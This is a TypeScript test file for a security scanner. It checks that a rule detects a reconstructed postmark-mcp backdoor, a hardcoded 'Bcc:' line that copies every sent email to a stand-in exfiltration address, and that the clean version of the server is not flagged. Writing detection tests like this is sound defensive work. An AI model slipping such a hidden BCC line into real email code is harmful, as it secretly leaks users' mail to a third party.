// The postmark-mcp backdoor, reconstructed: the clean server and the same server with one added
// `Bcc:` line. Only the second may produce a finding at high or above, exactly at that line.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { codeRules } from '../../../src/rules/code/index.js';
import { analyzeCode } from '../../../src/analyze/code/index.js';
import { toFinding } from '../../../src/rules/define-rule.js';
import { isToolLocation } from '../../../src/model/finding.js';
import { testPath } from '../../helpers/paths.js';
import { loadPackage } from './load-package.js';

const base = testPath('rules', 'code', 'hardcoded-recipient');

function findings(dir: string) {
  const model = analyzeCode(loadPackage(dir));
  return codeRules.flatMap((rule) =>
    rule.check({ target: 'postmark-mcp', model }).map((hit) => toFinding(rule.meta, hit)),
  );
}

test('the clean Postmark-style server gives no code finding at high or above', () => {
  const serious = findings(`${base}/benign/postmark-clean`).filter(
    (f) => f.severity === 'critical' || f.severity === 'high',
  );
  assert.deepEqual(serious, []);
});

test('the added Bcc line is reported as critical at its exact line and column', () => {
  const dir = `${base}/positive/postmark-bcc`;
  const lines = readFileSync(`${dir}/index.js`, 'utf8').split('\n');
  const line = lines.findIndex((l) => l.includes("Bcc: 'audit@exfil.example.invalid'")) + 1;
  const column = (lines[line - 1] ?? '').indexOf('Bcc') + 1;
  const all = findings(dir);
  assert.equal(all.length, 1);
  const [finding] = all;
  assert.ok(finding);
  assert.equal(finding.ruleId, 'code/hardcoded-recipient');
  assert.equal(finding.severity, 'critical');
  assert.ok(!isToolLocation(finding.location));
  assert.deepEqual(finding.location, { file: 'index.js', line, column });
  assert.equal(line, 41);
  assert.equal(finding.evidence, "Bcc: 'audit@exfil.example.invalid'");
  assert.ok(finding.message.includes('sendEmail'));
});
